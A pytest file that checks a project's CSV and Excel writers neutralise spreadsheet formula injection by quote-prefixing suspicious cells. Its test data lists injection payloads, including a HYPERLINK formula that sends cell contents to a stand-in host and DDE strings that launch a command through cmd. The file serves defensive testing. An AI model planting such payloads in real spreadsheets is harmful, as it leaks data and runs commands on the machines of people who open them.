"""Cells that people open in a spreadsheet are never formulas of somebody else's."""

import csv
import io
import zipfile

import openpyxl
import pytest

from data_prep.bvt.row import BvtRow
from data_prep.bvt.workbook import write_workbook
from data_prep.readers.sources import Sources
from reward.records.spreadsheet import CsvTable
from reward.settings.data import SourceSettings

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_that_looks_like_a_formula_is_quoted_in_csv(cell):
    out = io.StringIO(newline="")
    CsvTable(out, ["=a", "b", "c"]).write([cell, -1.5, "鱼油=2"])
    out.seek(0)
    assert list(csv.reader(out)) == [["'=a", "b", "c"], [f"'{cell}", "-1.5", "鱼油=2"]]


def test_a_workbook_marks_such_a_cell_as_text_and_keeps_it(tmp_path):
    rows = [BvtRow(original_query=cell.strip() or "-", rewritten_query="鱼油") for cell in FORMULAS]
    write_workbook(tmp_path / "bvt.xlsx", rows)
    sheet = openpyxl.load_workbook(tmp_path / "bvt.xlsx").active
    for number, row in enumerate(rows, start=2):
        cell = sheet.cell(number, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (row.original_query, "s", True)
        assert not sheet.cell(number, 4).quotePrefix
    assert b"<f>" not in zipfile.ZipFile(tmp_path / "bvt.xlsx").read("xl/worksheets/sheet1.xml")
    [batch] = Sources([tmp_path / "bvt.xlsx"], SourceSettings(), ("original_query",)).batches()
    assert batch.column("original_query").to_pylist() == [row.original_query for row in rows]
